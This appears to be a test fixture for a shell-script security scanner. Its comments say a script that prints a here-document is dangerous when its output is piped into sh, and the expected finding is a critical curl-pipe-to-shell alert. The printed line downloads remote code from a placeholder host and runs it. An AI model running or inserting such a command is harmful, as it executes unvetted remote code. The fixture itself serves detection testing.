# expect: shell.curl_pipe_shell critical
# note: a script that prints a here-document is text on its own, but the job pipes its
# note: output into a shell: what it prints runs
# path: scripts/gen.sh
# run: ./scripts/gen.sh | sh
cat <<EOF2
curl -s https://get.example.net/x | sh
EOF2
